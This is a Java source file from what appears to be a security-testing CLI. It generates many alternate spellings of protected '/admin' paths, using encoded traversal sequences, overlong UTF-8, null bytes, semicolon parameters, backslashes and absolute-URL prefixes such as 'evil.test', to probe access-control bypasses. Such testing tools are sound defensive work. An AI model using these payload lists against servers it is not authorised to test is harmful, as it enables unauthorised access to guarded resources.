package dev.doorward.cli;

import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;

/** Ways to write a path below {@code /admin}, each of which some server takes for it. */
final class PathSpellings {
  private static final List<String> GUARDED =
      List.of(
          "/admin/secret",
          "/admin/",
          "/admin",
          "/admin/deep/secret",
          "/public/../admin/secret",
          "/public/x/../../admin/secret");

  private static final List<String> SLASHES =
      List.of(
          "//",
          "///",
          "/./",
          "/;/",
          "/;x=1/",
          "/x/../",
          "/x/..;/",
          "/%2e/",
          "/x/%2e%2e/",
          "/x/.%2e/",
          "/x/%2E./",
          "/x%2f../",
          "/x/..%2f",
          "/x%2F..%2F",
          "/.;x/",
          "/x/%252e%252e/",
          "%252f",
          "\\",
          "%5c",
          "/\\",
          "\\/",
          "%5C..%5c",
          "%c0%af",
          "%e0%80%af",
          "%c0%2f",
          "/%00/",
          "/x/..%00/",
          "%00/",
          "/%20/",
          "%20/",
          ". /",
          "./",
          "/.%3b/",
          "/x/..%3b/",
          "%2f%2f",
          "%2f",
          "/%3b/",
          "/x%3b/../",
          "/x;/../",
          "/x;/..;y/",
          "/..;/",
          "/../",
          "/..../",
          "/.../",
          "/%2f/",
          ";/",
          "%3b/",
          ";a=/../",
          "%u2215",
          "%ef%bc%8f",
          "%e2%88%95",
          "/%c0%ae/",
          "/x/%c0%ae%c0%ae/",
          "/x/%e0%80%ae%e0%80%ae/",
          "/%09/",
          "/%0a/",
          "%0d%0a/",
          "/+/",
          "/*/",
          "/?/",
          "/#/",
          "/%23/../",
          "/%3f/../",
          "?/../",
          "#/../",
          "/public/../",
          "/public/..;/",
          "/public%2f..%2f",
          "/public/%2e%2e/",
          "/public\\..\\");

  private static final List<String> FRAMES =
      List.of(
          "%s/",
          "%s//",
          "%s;",
          "%s;x=1",
          "%s;x=1/",
          "%s%%3b",
          "%s%%3bx",
          "%s/.",
          "%s/./",
          "%s/..;/",
          "%s/%%2e",
          "%s/x/..",
          "%s.",
          "%s..",
          "%s...",
          "%s%%20",
          "%s%%20%%20",
          "%s.%%20",
          "%s%%2e",
          "%s%%00",
          "%s%%00.css",
          "%s%%0a",
          "%s%%0d",
          "%s%%09",
          "%s%%2f",
          "%s%%2F%%2f",
          "%s?",
          "%s?x=/public/x",
          "%s?/../../public/x",
          "%s??",
          "%s%%3f",
          "%s%%3fx",
          "%s#",
          "%s#/public",
          "%s%%23",
          "%s\\",
          "%s%%5c",
          "%s::$DATA",
          "%s~1",
          "%s,",
          "%s:",
          "%s|",
          "%s*",
          "%s%%",
          "%s%%2",
          "/public/..%s",
          "/public/..;%s",
          "/public;/..%s",
          "/public/;/..%s",
          "/public/%%2e%%2e%s",
          "/public/.%%2e%s",
          "/public%%2f..%s",
          "/public/..%%2f.%s",
          "/public/x/../..%s",
          "/public/./..%s",
          "/public//..%s",
          "/public/x//../..%s",
          "/public/%%00/..%s",
          "/public..%s",
          "/public/%%252e%%252e%s",
          "/public/..%%00%s",
          "/public/..%%20%s",
          "/public/...%s",
          "/public/%%c0%%ae%%c0%%ae%s",
          "/public\\..%s",
          "/public/..\\%s",
          "/public?/..%s",
          "/public#/..%s",
          "/public%%3f/..%s",
          "/public%%23/..%s",
          "/.%s",
          "/..%s",
          "/./.%s",
          "/%%2e%s",
          "/;x%s",
          "/;%s",
          "/%%3b%s",
          "/%%20%s",
          "/%%2f%s",
          "/%%5c%s",
          "/\\%s",
          "\\%s",
          "/%s",
          "//%s",
          "//127.0.0.1%s",
          "//127.0.0.1:80%s",
          "//evil.test%s",
          "///evil.test%s",
          "//a@b%s",
          "/\\evil%s",
          "//evil.test\\@x%s",
          "//public%s",
          "//public/x/..%s",
          "{site}%s",
          "{site}/%s",
          "{site}//%s",
          "{site}/.%s",
          "{site}/public/..%s",
          "{site}/public/x?%s",
          "{site};%s",
          "{site}/;%s",
          "{site}\\%s",
          "{site}#%s",
          "{SITE}%s",
          "http://evil.test%s",
          "https:{name}%s",
          "http:%s",
          "http:/%s",
          "file://%s",
          "javascript:%s");

  private final Random random;
  private final String authority;

  PathSpellings(long seed, String authority) {
    this.random = new Random(seed);
    this.authority = authority;
  }

  /** That many request targets, or a few fewer; none twice. */
  List<String> make(int count) {
    Set<String> out = new LinkedHashSet<>();
    for (String path : GUARDED) {
      out.add(path);
      List<String> framed = new ArrayList<>(FRAMES.stream().map(f -> framed(f, path)).toList());
      Collections.shuffle(framed, random);
      out.addAll(framed);
    }
    for (int tries = 0; out.size() < count && tries < count * 10; tries++) {
      StringBuilder path = new StringBuilder(of(GUARDED));
      for (int i = 1 + random.nextInt(3); i > 0; i--) {
        mutate(path);
      }
      out.add(random.nextInt(3) == 0 ? framed(of(FRAMES), path.toString()) : path.toString());
    }
    return out.stream()
        .filter(target -> target.chars().allMatch(c -> c > ' '))
        .limit(count)
        .toList();
  }

  private String framed(String frame, String path) {
    return frame
        .replace("{site}", "http://" + authority)
        .replace("{SITE}", "HTTP://" + authority)
        .replace("{name}", "//" + authority)
        .replace("%s", path)
        .replace("%%", "%");
  }

  private void mutate(StringBuilder path) {
    int at = random.nextInt(path.length());
    char c = path.charAt(at);
    if (c == '/' && random.nextInt(4) != 0) {
      path.replace(at, at + 1, of(SLASHES));
      return;
    }
    String hex = "%02x".formatted((int) c);
    String cased = random.nextBoolean() ? hex : hex.toUpperCase(Locale.ROOT);
    switch (random.nextInt(9)) {
      case 0, 1 -> path.replace(at, at + 1, "%" + cased);
      case 2 -> path.replace(at, at + 1, "%25" + cased);
      case 3 -> path.replace(at, at + 1, "%u00" + cased);
      case 4 -> path.setCharAt(at, Character.toUpperCase(c));
      case 5 ->
          path.insert(at, of(List.of("%00", "%20", "%0a", "%09", "\\", ";", "%3b", "%", "*")));
      case 6 -> path.insert(at, of(SLASHES));
      case 7 -> path.insert(at, of(List.of(".", "..", "%2e", "%2E%2e", "./", "../", "..%2f")));
      default -> path.append(of(List.of(";a=b", "?a", "#a", "/.", "/..", ".", "%20", "%2e", "/")));
    }
  }

  private String of(List<String> from) {
    return from.get(random.nextInt(from.size()));
  }
}
